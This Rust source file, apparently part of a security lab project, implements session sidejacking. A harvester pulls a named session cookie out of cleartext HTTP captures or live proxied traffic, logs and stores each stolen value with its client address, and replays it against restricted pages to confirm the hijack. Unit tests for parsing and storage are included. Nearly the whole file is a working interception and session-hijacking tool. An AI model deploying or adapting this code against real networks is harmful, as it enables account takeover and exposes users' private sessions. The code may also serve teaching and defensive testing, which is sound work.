//! Session sidejacking: harvest session cookies from cleartext traffic and
//! replay them against restricted pages.

use std::collections::{HashMap, HashSet, VecDeque};
use std::fs::{self, File, OpenOptions};
use std::io::{self, BufRead, BufReader, Write};
use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use chrono::{DateTime, SecondsFormat, Utc};
use percent_encoding::{percent_decode_str, utf8_percent_encode, AsciiSet, CONTROLS};
use serde::{Deserialize, Serialize};
use thiserror::Error;

use crate::capture::{Capture, CaptureError, CaptureRecorder, ConnMeta, Direction, FrameSink, ProxyTap};
use crate::http::{self, Message, RoundTrip, StreamParser};

pub use crate::victim::DEFAULT_COOKIE_NAME;

#[derive(Debug, Error)]
pub enum SidejackError {
    #[error(transparent)]
    Capture(#[from] CaptureError),
    #[error("cannot reach {target}: {source}")]
    TargetUnreachable { target: String, source: io::Error },
    #[error("session store line {line}: {detail}")]
    StoreParse { line: usize, detail: String },
    #[error("unsupported URL {0:?}; expected http://host[:port]/path")]
    BadUrl(String),
    #[error("session store I/O: {0}")]
    Io(#[from] io::Error),
}

#[derive(Debug, Clone)]
pub enum CaptureSource {
    File(PathBuf),
    /// Listen on `listen`, relay to `upstream`, harvest for `run_for`.
    ProxyTap {
        listen: String,
        upstream: SocketAddr,
        run_for: Duration,
    },
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct CapturedSession {
    pub url: String,
    pub cookie_name: String,
    pub cookie_value: String,
    pub observed_at: DateTime<Utc>,
    pub source_client: String,
}

#[derive(Debug, Default)]
struct ConnState {
    to_server: StreamParser,
    to_client: StreamParser,
    /// URLs of requests still waiting for their response.
    pending: VecDeque<String>,
    last_url: Option<String>,
}

/// Incremental cookie harvester. Feed it data frames in arrival order.
///
/// Each distinct value of the configured cookie is reported once, at its
/// first sighting in either a `Set-Cookie` or a `Cookie` header.
#[derive(Debug)]
pub struct Harvester {
    cookie_name: String,
    conns: HashMap<(u64, String), ConnState>,
    order: Vec<(u64, String)>,
    seen: HashSet<String>,
}

impl Harvester {
    pub fn new(cookie_name: &str) -> Self {
        Harvester {
            cookie_name: cookie_name.to_string(),
            conns: HashMap::new(),
            order: Vec::new(),
            seen: HashSet::new(),
        }
    }

    pub fn feed(&mut self, conn: &ConnMeta, direction: Direction, payload: &[u8], ts_ms: i64) -> Vec<CapturedSession> {
        let key = (conn.id, conn.client.clone());
        if !self.conns.contains_key(&key) {
            self.order.push(key.clone());
        }
        let state = self.conns.entry(key).or_default();
        let mut messages = Vec::new();
        match direction {
            Direction::ClientToServer => {
                state.to_server.push(payload);
                while let Some(m) = state.to_server.next_message() {
                    messages.push(m.message);
                }
            }
            Direction::ServerToClient => {
                state.to_client.push(payload);
                while let Some(m) = state.to_client.next_message() {
                    messages.push(m.message);
                }
            }
            Direction::Meta => {}
        }
        let mut out = Vec::new();
        for message in messages {
            self.observe(&(conn.id, conn.client.clone()), &conn.client, &message, ts_ms, &mut out);
        }
        out
    }

    /// Flushes responses that were waiting for end of stream.
    pub fn finish(&mut self, ts_ms: i64) -> Vec<CapturedSession> {
        let mut out = Vec::new();
        for key in self.order.clone() {
            let state = self.conns.get_mut(&key).unwrap();
            let mut messages: Vec<Message> = state.to_server.finish().into_iter().map(|m| m.message).collect();
            messages.extend(state.to_client.finish().into_iter().map(|m| m.message));
            for message in messages {
                self.observe(&key, &key.1.clone(), &message, ts_ms, &mut out);
            }
        }
        out
    }

    fn observe(&mut self, key: &(u64, String), client: &str, message: &Message, ts_ms: i64, out: &mut Vec<CapturedSession>) {
        let state = self.conns.get_mut(key).unwrap();
        let (url, values) = if message.is_request() {
            let url = request_url(message);
            state.pending.push_back(url.clone());
            state.last_url = Some(url.clone());
            let values: Vec<String> = message
                .headers_named("cookie")
                .flat_map(|v| v.split(';'))
                .filter_map(|pair| pair.trim().split_once('='))
                .filter(|(k, _)| *k == self.cookie_name)
                .map(|(_, v)| v.trim().to_string())
                .collect();
            (url, values)
        } else {
            let url = state
                .pending
                .pop_front()
                .or_else(|| state.last_url.clone())
                .unwrap_or_default();
            let values: Vec<String> = message
                .headers_named("set-cookie")
                .filter_map(|v| v.split(';').next())
                .filter_map(|pair| pair.trim().split_once('='))
                .filter(|(k, _)| *k == self.cookie_name)
                .map(|(_, v)| v.trim().to_string())
                .collect();
            (url, values)
        };
        for value in values {
            if value.is_empty() || !self.seen.insert(value.clone()) {
                continue;
            }
            out.push(CapturedSession {
                url: url.clone(),
                cookie_name: self.cookie_name.clone(),
                cookie_value: value,
                observed_at: DateTime::from_timestamp_millis(ts_ms).unwrap_or_default(),
                source_client: client.to_string(),
            });
        }
    }
}

fn request_url(message: &Message) -> String {
    let target = message.target().unwrap_or("/");
    if target.starts_with("http://") || target.starts_with("https://") {
        return target.to_string();
    }
    let host = message.header("host").unwrap_or("unknown-host");
    format!("http://{host}{target}")
}

/// Harvests sessions from a parsed capture.
pub fn harvest_capture(capture: &Capture, cookie_name: &str) -> Vec<CapturedSession> {
    let mut harvester = Harvester::new(cookie_name);
    let mut sessions = Vec::new();
    let mut last_ts = 0;
    for frame in &capture.frames {
        last_ts = frame.ts_ms;
        sessions.extend(harvester.feed(capture.connection(frame), frame.direction, &frame.payload, frame.ts_ms));
    }
    sessions.extend(harvester.finish(last_ts));
    sessions
}

pub fn harvest(source: &CaptureSource, cookie_name: &str) -> Result<Vec<CapturedSession>, SidejackError> {
    match source {
        CaptureSource::File(path) => Ok(harvest_capture(&Capture::read(path)?, cookie_name)),
        CaptureSource::ProxyTap {
            listen,
            upstream,
            run_for,
        } => {
            let live = LiveHarvest::start(listen, *upstream, cookie_name, None, None)?;
            std::thread::sleep(*run_for);
            Ok(live.stop())
        }
    }
}

struct LiveState {
    harvester: Harvester,
    sessions: Vec<CapturedSession>,
    store: Option<File>,
}

struct LiveSink(Mutex<LiveState>);

impl FrameSink for LiveSink {
    fn record(&self, conn: &ConnMeta, direction: Direction, payload: &[u8]) {
        let mut state = self.0.lock().unwrap();
        let found = state.harvester.feed(conn, direction, payload, conn.ts_ms);
        for session in found {
            if let Some(store) = state.store.as_mut() {
                if let Err(e) = store.write_all(store_line(&session).as_bytes()) {
                    log::warn!("session store append failed: {e}");
                }
            }
            log::info!("captured {}={} from {}", session.cookie_name, session.cookie_value, session.source_client);
            state.sessions.push(session);
        }
    }
}

/// Proxy-tap harvesting that appends sessions to a store as they appear and
/// optionally records the raw traffic.
pub struct LiveHarvest {
    tap: ProxyTap,
    sink: Arc<LiveSink>,
    recorder: Option<Arc<CaptureRecorder<File>>>,
}

impl LiveHarvest {
    pub fn start(
        listen: &str,
        upstream: SocketAddr,
        cookie_name: &str,
        store: Option<&Path>,
        capture_out: Option<&Path>,
    ) -> Result<Self, SidejackError> {
        let store = store
            .map(|p| OpenOptions::new().create(true).append(true).open(p))
            .transpose()?;
        let sink = Arc::new(LiveSink(Mutex::new(LiveState {
            harvester: Harvester::new(cookie_name),
            sessions: Vec::new(),
            store,
        })));
        let recorder = capture_out
            .map(|p| File::create(p).and_then(CaptureRecorder::new).map(Arc::new))
            .transpose()?;
        let mut sinks: Vec<Arc<dyn FrameSink>> = vec![sink.clone()];
        if let Some(r) = &recorder {
            sinks.push(r.clone());
        }
        let tap = ProxyTap::start(listen, upstream, Arc::new(sinks))?;
        Ok(LiveHarvest { tap, sink, recorder })
    }

    pub fn addr(&self) -> SocketAddr {
        self.tap.addr()
    }

    pub fn sessions(&self) -> Vec<CapturedSession> {
        self.sink.0.lock().unwrap().sessions.clone()
    }

    pub fn stop(self) -> Vec<CapturedSession> {
        self.tap.shutdown();
        if let Some(r) = &self.recorder {
            let _ = r.flush();
        }
        let mut state = self.sink.0.lock().unwrap();
        let ts = Utc::now().timestamp_millis();
        let rest = state.harvester.finish(ts);
        state.sessions.extend(rest);
        state.sessions.clone()
    }

    /// Serves until the process is killed.
    pub fn wait(self) {
        self.tap.wait();
    }
}

const STORE_ESCAPE: &AsciiSet = &CONTROLS.add(b'%');

fn store_line(s: &CapturedSession) -> String {
    let fields = [
        s.observed_at.to_rfc3339_opts(SecondsFormat::Millis, true),
        s.source_client.clone(),
        s.url.clone(),
        s.cookie_name.clone(),
        s.cookie_value.clone(),
    ];
    let escaped: Vec<String> = fields
        .iter()
        .map(|f| utf8_percent_encode(f, STORE_ESCAPE).to_string())
        .collect();
    format!("{}\n", escaped.join("\t"))
}

/// Writes sessions in the tab-separated store format.
pub fn write_session_store<W: Write>(sessions: &[CapturedSession], mut sink: W) -> io::Result<()> {
    for s in sessions {
        sink.write_all(store_line(s).as_bytes())?;
    }
    sink.flush()
}

pub fn parse_session_store(text: &str) -> Result<Vec<CapturedSession>, SidejackError> {
    let mut out = Vec::new();
    for (i, line) in text.lines().enumerate() {
        let line_no = i + 1;
        if line.trim().is_empty() {
            continue;
        }
        let fields: Vec<&str> = line.split('\t').collect();
        if fields.len() != 5 {
            return Err(SidejackError::StoreParse {
                line: line_no,
                detail: format!("expected 5 tab-separated fields, found {}", fields.len()),
            });
        }
        let unescape = |f: &str| percent_decode_str(f).decode_utf8_lossy().into_owned();
        let observed_at = DateTime::parse_from_rfc3339(fields[0])
            .map_err(|e| SidejackError::StoreParse {
                line: line_no,
                detail: format!("bad timestamp: {e}"),
            })?
            .with_timezone(&Utc);
        if fields[3].is_empty() || fields[4].is_empty() {
            return Err(SidejackError::StoreParse {
                line: line_no,
                detail: "empty cookie name or value".into(),
            });
        }
        out.push(CapturedSession {
            observed_at,
            source_client: unescape(fields[1]),
            url: unescape(fields[2]),
            cookie_name: unescape(fields[3]),
            cookie_value: unescape(fields[4]),
        });
    }
    Ok(out)
}

pub fn load_session_store(path: &Path) -> Result<Vec<CapturedSession>, SidejackError> {
    let file = File::open(path)?;
    let mut text = String::new();
    for line in BufReader::new(file).lines() {
        text.push_str(&line?);
        text.push('\n');
    }
    parse_session_store(&text)
}

pub fn save_session_store(path: &Path, sessions: &[CapturedSession]) -> io::Result<()> {
    let mut buf = Vec::new();
    write_session_store(sessions, &mut buf)?;
    fs::write(path, buf)
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct HijackAttempt {
    pub session: CapturedSession,
    pub requested_url: String,
    /// Response status, or 0 when no parseable response arrived.
    pub status: u16,
    pub marker: String,
    pub body_marker_found: bool,
}

impl HijackAttempt {
    pub fn success(&self) -> bool {
        self.status == 200 && self.body_marker_found
    }
}

/// Splits `http://host[:port]/path` into the connect address, the Host
/// header value and the request target.
pub fn split_url(url: &str) -> Result<(String, String, String), SidejackError> {
    let rest = url
        .strip_prefix("http://")
        .ok_or_else(|| SidejackError::BadUrl(url.to_string()))?;
    let (authority, path) = match rest.find('/') {
        Some(i) => (&rest[..i], &rest[i..]),
        None => (rest, "/"),
    };
    if authority.is_empty() {
        return Err(SidejackError::BadUrl(url.to_string()));
    }
    let connect = if authority.rsplit_once(':').is_some_and(|(_, p)| p.parse::<u16>().is_ok()) {
        authority.to_string()
    } else {
        format!("{authority}:80")
    };
    Ok((connect, authority.to_string(), path.to_string()))
}

/// Requests `url` presenting only the captured cookie.
pub fn replay(
    session: &CapturedSession,
    url: &str,
    marker: &str,
    timeout: Duration,
) -> Result<HijackAttempt, SidejackError> {
    let (connect, host, target) = split_url(url)?;
    let addr = http::resolve(&connect).map_err(|source| SidejackError::TargetUnreachable {
        target: connect.clone(),
        source,
    })?;
    let cookie = format!("{}={}", session.cookie_name, session.cookie_value);
    let request = http::build_request("GET", &target, &[("Host", &host), ("Cookie", &cookie)], b"");
    let outcome = http::round_trip(addr, &request, timeout).map_err(|source| SidejackError::TargetUnreachable {
        target: connect.clone(),
        source,
    })?;
    let (status, found) = match outcome {
        RoundTrip::Response { message, .. } => (
            message.status().unwrap_or(0),
            !marker.is_empty() && String::from_utf8_lossy(&message.body).contains(marker),
        ),
        _ => (0, false),
    };
    Ok(HijackAttempt {
        session: session.clone(),
        requested_url: url.to_string(),
        status,
        marker: marker.to_string(),
        body_marker_found: found,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::capture::CaptureWriter;

    fn conn(id: u64) -> ConnMeta {
        ConnMeta {
            id,
            client: format!("192.168.1.20:{}", 50000 + id),
            ts_ms: 1_354_000_000_000 + id as i64,
        }
    }

    fn login_exchange(w: &mut CaptureWriter<Vec<u8>>, id: u64, token: &str) {
        w.write_data(
            &conn(id),
            Direction::ClientToServer,
            b"POST /login HTTP/1.1\r\nHost: 192.168.1.10\r\nContent-Length: 0\r\n\r\n",
        )
        .unwrap();
        w.write_data(
            &conn(id),
            Direction::ServerToClient,
            format!("HTTP/1.1 200 OK\r\nSet-Cookie: sessionid={token}; Path=/\r\nContent-Length: 0\r\n\r\n").as_bytes(),
        )
        .unwrap();
    }

    #[test]
    fn harvests_logins_in_order() {
        let mut w = CaptureWriter::new(Vec::new()).unwrap();
        login_exchange(&mut w, 1, "aaa");
        login_exchange(&mut w, 2, "bbb");
        w.write_data(&conn(3), Direction::ClientToServer, b"GET /restricted/images HTTP/1.1\r\nHost: h\r\nCookie: x=1; sessionid=aaa\r\n\r\n").unwrap();
        login_exchange(&mut w, 4, "ccc");
        let cap = Capture::parse(&w.into_inner()).unwrap();
        let sessions = harvest_capture(&cap, "sessionid");
        let values: Vec<_> = sessions.iter().map(|s| s.cookie_value.as_str()).collect();
        assert_eq!(values, ["aaa", "bbb", "ccc"]);
        assert_eq!(sessions[0].url, "http://192.168.1.10/login");
        assert_eq!(sessions[1].source_client, "192.168.1.20:50002");
        assert_eq!(sessions[0].observed_at.timestamp_millis(), 1_354_000_000_001);
    }

    #[test]
    fn cookie_only_in_request() {
        let mut w = CaptureWriter::new(Vec::new()).unwrap();
        w.write_data(&conn(1), Direction::ClientToServer, b"GET /p HTTP/1.1\r\nHost: h:8080\r\nCookie: sessionid=zzz\r\n\r\n").unwrap();
        let sessions = harvest_capture(&Capture::parse(&w.into_inner()).unwrap(), "sessionid");
        assert_eq!(sessions.len(), 1);
        assert_eq!(sessions[0].url, "http://h:8080/p");
    }

    #[test]
    fn other_cookie_names_and_cleared_cookies_ignored() {
        let mut w = CaptureWriter::new(Vec::new()).unwrap();
        w.write_data(
            &conn(1),
            Direction::ServerToClient,
            b"HTTP/1.1 200 OK\r\nSet-Cookie: csrftoken=abc\r\nSet-Cookie: sessionid=; Max-Age=0\r\nContent-Length: 0\r\n\r\n",
        )
        .unwrap();
        let sessions = harvest_capture(&Capture::parse(&w.into_inner()).unwrap(), "sessionid");
        assert!(sessions.is_empty());
    }

    #[test]
    fn empty_and_garbage_captures() {
        assert!(harvest_capture(&Capture::parse(b"SPC1").unwrap(), "sessionid").is_empty());
        let mut w = CaptureWriter::new(Vec::new()).unwrap();
        w.write_frame(Direction::ClientToServer, b"\x16\x03\x01\x02\x00binary tls junk\n\n").unwrap();
        w.write_frame(Direction::ClientToServer, b"GET / HTTP/1.1\r\nCookie: sessionid=q\r\n\r\n").unwrap();
        let sessions = harvest_capture(&Capture::parse(&w.into_inner()).unwrap(), "sessionid");
        assert_eq!(sessions.len(), 1);
        assert_eq!(sessions[0].source_client, "unknown");
    }

    #[test]
    fn custom_cookie_name() {
        let mut w = CaptureWriter::new(Vec::new()).unwrap();
        w.write_frame(Direction::ClientToServer, b"GET / HTTP/1.1\r\nCookie: PHPSESSID=abc; sessionid=def\r\n\r\n").unwrap();
        let cap = Capture::parse(&w.into_inner()).unwrap();
        let sessions = harvest_capture(&cap, "PHPSESSID");
        assert_eq!(sessions.len(), 1);
        assert_eq!(sessions[0].cookie_value, "abc");
    }

    fn session(value: &str, url: &str) -> CapturedSession {
        CapturedSession {
            url: url.into(),
            cookie_name: "sessionid".into(),
            cookie_value: value.into(),
            observed_at: DateTime::from_timestamp_millis(1_354_000_000_123).unwrap(),
            source_client: "10.1.1.1:4000".into(),
        }
    }

    #[test]
    fn store_format() {
        let mut out = Vec::new();
        write_session_store(&[session("abc", "http://h/login")], &mut out).unwrap();
        assert_eq!(
            String::from_utf8(out).unwrap(),
            "2012-11-27T07:06:40.123Z\t10.1.1.1:4000\thttp://h/login\tsessionid\tabc\n"
        );
    }

    #[test]
    fn store_escapes_awkward_urls() {
        let sessions = vec![session("abc", "http://h/a\tb%2Fc")];
        let mut out = Vec::new();
        write_session_store(&sessions, &mut out).unwrap();
        assert_eq!(parse_session_store(std::str::from_utf8(&out).unwrap()).unwrap(), sessions);
    }

    #[test]
    fn store_parse_errors() {
        let good = "2012-11-27T07:06:40.123Z\tc\thttp://h/\tsessionid\tabc\n";
        assert_eq!(parse_session_store(good).unwrap().len(), 1);
        let bad = format!("{good}not\ta\tvalid line\n{good}");
        match parse_session_store(&bad) {
            Err(SidejackError::StoreParse { line, .. }) => assert_eq!(line, 2),
            other => panic!("unexpected {other:?}"),
        }
        let bad_ts = "yesterday\tc\thttp://h/\tsessionid\tabc\n";
        assert!(matches!(parse_session_store(bad_ts), Err(SidejackError::StoreParse { line: 1, .. })));
    }

    #[test]
    fn url_splitting() {
        assert_eq!(
            split_url("http://127.0.0.1:8080/restricted/images").unwrap(),
            ("127.0.0.1:8080".into(), "127.0.0.1:8080".into(), "/restricted/images".into())
        );
        assert_eq!(
            split_url("http://dash").unwrap(),
            ("dash:80".into(), "dash".into(), "/".into())
        );
        assert!(matches!(split_url("https://dash/"), Err(SidejackError::BadUrl(_))));
    }

    #[test]
    fn replay_unreachable() {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = listener.local_addr().unwrap();
        drop(listener);
        let err = replay(&session("x", ""), &format!("http://{addr}/"), "m", Duration::from_secs(1)).unwrap_err();
        assert!(matches!(err, SidejackError::TargetUnreachable { .. }));
    }
}
